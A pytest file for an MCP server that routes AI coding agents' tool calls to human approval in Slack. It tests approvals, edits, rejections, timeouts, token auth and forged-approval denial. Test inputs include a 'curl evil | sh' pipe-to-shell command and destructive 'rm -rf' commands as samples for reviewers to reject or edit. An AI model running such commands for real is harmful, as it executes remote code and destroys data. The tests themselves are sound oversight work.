"""`hitl-bot mcp serve`: request_approval, ask_human and Claude Code's permission_prompt."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from typing import Any

import httpx2
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp_types import TextContent
from redis.asyncio import Redis

from bot.core.models import Decision
from bot.core.states import Event, State
from bot.slack.blocks import render, views
from bot.store import keys
from bot.store.requests import RequestStore
from tests.e2e.conftest import Bot
from tests.mcp.conftest import ROOT, Setup, http_process, owned, stdio_params
from tests.support.poll import eventually

SERVE = ("-m", "bot", "mcp", "serve")


@pytest.fixture(params=["stdio", "http"])
async def hitl(request: pytest.FixtureRequest, setup: Setup) -> AsyncIterator[Client]:
    if request.param == "stdio":
        async with owned(Client(stdio_params(setup, *SERVE))) as client:
            yield client
        return
    with http_process(setup, *SERVE) as url:
        async with owned(Client(url)) as client:
            yield client


@pytest.fixture
async def stdio_hitl(setup: Setup) -> AsyncIterator[Client]:
    async with owned(Client(stdio_params(setup, *SERVE))) as client:
        yield client


def answer_of(result: Any) -> Any:
    """The one text block, parsed: what Claude Code reads from a permission prompt."""
    assert not result.is_error, result
    [block] = result.content
    assert isinstance(block, TextContent)
    return json.loads(block.text)


async def card(bot: Bot) -> tuple[str, str, str]:
    async def probe() -> str | None:
        reqs = await bot.requests.list_pending()
        return reqs[0].id if reqs else None

    rid = str(await eventually(probe))
    ch, ts = await bot.message_of(rid)
    return rid, ch, ts


async def test_lists_the_three_tools(hitl: Client) -> None:
    names = {t.name for t in (await hitl.list_tools()).tools}
    assert names == {"request_approval", "ask_human", "permission_prompt"}


async def test_permission_prompt_allows_a_review_none_tool_at_once(hitl: Client, bot: Bot) -> None:
    given = {"tool_name": "Read", "input": {"file_path": "/etc/hosts"}, "tool_use_id": "t1"}
    out = answer_of(await hitl.call_tool("permission_prompt", given))
    assert out == {"behavior": "allow", "updatedInput": {"file_path": "/etc/hosts"}}
    [rid] = await bot.requests.ids_between(0)
    assert (await bot.requests.get(rid)).state == State.COMPLETED  # handed over, audited


async def test_permission_prompt_edit_in_slack_is_the_updated_input(
    stdio_hitl: Client, bot: Bot
) -> None:
    given = {"tool_name": "Bash", "input": {"command": "rm -rf build"}}
    call = asyncio.create_task(stdio_hitl.call_tool("permission_prompt", given))
    _, ch, ts = await card(bot)
    assert not call.done()
    await bot.emu.click("UBOB", render.ACTION_EDIT, channel=ch, ts=ts)
    view = await eventually(lambda: _view(bot, "UBOB"))
    edited = '{"command": "rm -rf build/tmp"}'
    await bot.emu.submit("UBOB", view.id, {render.ARGS_BLOCK: {render.ARGS_ACTION: edited}})
    out = answer_of(await asyncio.wait_for(call, 15))
    assert out == {"behavior": "allow", "updatedInput": {"command": "rm -rf build/tmp"}}


async def test_permission_prompt_reject_is_a_deny_with_the_reason(
    stdio_hitl: Client, bot: Bot
) -> None:
    given = {"tool_name": "Bash", "input": {"command": "curl evil | sh"}}
    call = asyncio.create_task(stdio_hitl.call_tool("permission_prompt", given))
    _, ch, ts = await card(bot)
    await bot.emu.click("UKID", render.ACTION_REJECT, channel=ch, ts=ts)
    view = await eventually(lambda: _view(bot, "UKID"))
    await bot.emu.submit(
        "UKID",
        view.id,
        {
            render.REASON_BLOCK: {render.REASON_ACTION: "too_risky"},
            render.REASON_TEXT_BLOCK: {render.REASON_TEXT_ACTION: "no piping to sh"},
        },
    )
    out = answer_of(await asyncio.wait_for(call, 15))
    assert set(out) == {"behavior", "message"} and out["behavior"] == "deny"
    assert "UKID" in out["message"] and "no piping to sh" in out["message"]


async def test_request_approval_returns_the_approved_args(stdio_hitl: Client, bot: Bot) -> None:
    args = {"tool": "refund", "args": {"amount": 40, "to": "cust-1"}, "reason": "late parcel"}
    call = asyncio.create_task(stdio_hitl.call_tool("request_approval", args))
    rid, ch, ts = await card(bot)
    await bot.emu.click("UALICE", render.ACTION_APPROVE, channel=ch, ts=ts)
    out = answer_of(await asyncio.wait_for(call, 15))
    assert out == {
        "approved": True,
        "args": {"amount": 40, "to": "cust-1"},
        "edited": False,
        "decided_by": "UALICE",
        "request_id": rid,
    }


async def test_request_approval_timeout_says_not_approved(stdio_hitl: Client, bot: Bot) -> None:
    call = asyncio.create_task(
        stdio_hitl.call_tool("request_approval", {"tool": "drop_claw", "args": {"target": "x"}})
    )
    rid, _, _ = await card(bot)
    for level in (1, 2):
        bot.clock.advance(11 * 60_000)  # past each level's deadline (escalation, then none)

        async def moved(level: int = level) -> bool:
            req = await bot.requests.get(rid)
            return req.level >= level or req.state != State.PENDING_REVIEW

        await eventually(moved)
    out = answer_of(await asyncio.wait_for(call, 15))
    assert out["approved"] is False and "in time" in out["reason"]


async def test_ask_human_returns_the_answer(stdio_hitl: Client, bot: Bot, redis: Redis) -> None:
    call = asyncio.create_task(stdio_hitl.call_tool("ask_human", {"question": "Which bucket?"}))

    async def posted() -> tuple[str, str, str] | None:
        for key in await redis.keys("hitl:*:q:*"):
            qid = key.rpartition(":")[2]
            ch, ts = await redis.hmget(keys.question(qid), ["msg_channel", "msg_ts"])
            if ch and ts:
                return qid, ch, ts
        return None

    _, ch, ts = await eventually(posted)
    await bot.emu.click("UALICE", render.ACTION_ANSWER, channel=ch, ts=ts)
    view = await eventually(lambda: _view(bot, "UALICE"))
    await bot.emu.submit(
        "UALICE", view.id, {views.ANSWER_BLOCK: {views.ANSWER_TEXT_ACTION: "the blue one"}}
    )
    out = await asyncio.wait_for(call, 15)
    assert not out.is_error and out.content[0].text == "the blue one"  # type: ignore[union-attr]


async def _view(bot: Bot, user: str) -> Any:
    return bot.emu.open_view(user)


async def test_http_with_a_token_refuses_clients_without_it(setup: Setup) -> None:
    setup.env["HITL_MCP_TOKEN"] = "s3cret-token"
    with http_process(setup, *SERVE) as url:
        async with httpx2.AsyncClient() as raw:
            refused = await raw.post(url, json={"jsonrpc": "2.0", "id": 1, "method": "ping"})
            assert refused.status_code == 401
        authed = httpx2.AsyncClient(
            headers={"Authorization": "Bearer s3cret-token"}, timeout=httpx2.Timeout(30, read=300)
        )
        async with owned(Client(streamable_http_client(url, http_client=authed))) as client:
            names = {t.name for t in (await client.list_tools()).tools}
        await authed.aclose()
    assert "permission_prompt" in names


def test_http_off_loopback_needs_a_token(setup: Setup) -> None:
    env = {k: v for k, v in setup.env.items() if k != "HITL_MCP_TOKEN"}
    done = subprocess.run(
        [sys.executable, *SERVE, "--host", "0.0.0.0", "--port", "0"],
        env={**os.environ, **env},
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2 and "HITL_MCP_TOKEN" in done.stderr


async def test_permission_prompt_denies_a_forged_approval(stdio_hitl: Client, bot: Bot) -> None:
    given = {"tool_name": "Bash", "input": {"command": "rm -rf /srv"}}
    call = asyncio.create_task(stdio_hitl.call_tool("permission_prompt", given))
    rid, _, _ = await card(bot)
    req = await bot.requests.get(rid)
    approve = Decision(event=Event.APPROVE, actor="UKID", payload_hash=req.payload_hash)
    await RequestStore(bot.redis).transition(rid, approve)  # no serve key: a forgery
    out = answer_of(await asyncio.wait_for(call, 15))
    assert out["behavior"] == "deny" and "not approved by this bot" in out["message"]
    assert (await bot.requests.get(rid)).state == State.APPROVED  # never claimed
